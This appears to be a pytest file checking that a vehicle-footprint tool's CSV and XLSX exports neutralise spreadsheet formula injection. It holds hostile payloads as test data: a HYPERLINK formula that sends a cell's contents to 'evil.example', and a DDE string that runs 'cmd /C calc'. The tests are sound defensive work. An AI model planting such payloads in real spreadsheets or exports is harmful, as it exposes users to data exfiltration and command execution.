"""CSV and XLSX exports never turn a name into a live formula (issue 12: a spec named
``=HYPERLINK("http://…"&A2,"Click me")`` comes from a supplier)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
import yaml

from carbonev.exchange.csv_excel import csv_text, safe_cell
from cli_runner import invoke

BEV = Path(__file__).resolve().parents[2] / "examples" / "bev-midsize-nmc811.yaml"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"Click me")'


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("Tesla Model 3", "Tesla Model 3"), (12.5, 12.5), (None, None),
])
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe


def test_csv_text_neutralises_text_cells_only():
    df = pd.DataFrame({"vehicle": [HOSTILE, "ok"], "amount": [-1.5, 2.0]})
    rows = list(csv.reader(io.StringIO(csv_text(df))))
    assert rows[1] == ["'" + HOSTILE, "-1.5"] and rows[2] == ["ok", "2.0"]


@pytest.fixture
def hostile_spec(tmp_path) -> Path:
    data = yaml.safe_load(BEV.read_text(encoding="utf-8"))
    data["name"] = HOSTILE
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@pytest.mark.parametrize("args", [["export", "csv"], ["export", "csv", "--table", "flows"],
                                  ["footprint", "--format", "csv"]])
def test_csv_exports_prefix_the_formula(session_store, hostile_spec, args):
    res = invoke(session_store, *args[:2], str(hostile_spec), *args[2:]) if args[0] == "export" else \
        invoke(session_store, args[0], str(hostile_spec), *args[1:])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(res.stdout)))
    names = {r[0] for r in rows[1:]}
    assert names == {"'" + HOSTILE}


def test_xlsx_writes_the_name_as_text_not_a_formula(session_store, hostile_spec, tmp_path):
    import openpyxl

    out = tmp_path / "r.xlsx"
    res = invoke(session_store, "export", "xlsx", str(hostile_spec), "-o", str(out))
    assert res.exit_code == 0, res.output
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == HOSTILE]
    assert len(cells) >= 8  # the name on every stage row (and more)
    assert all(c.data_type == "s" for c in cells)
    assert not [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
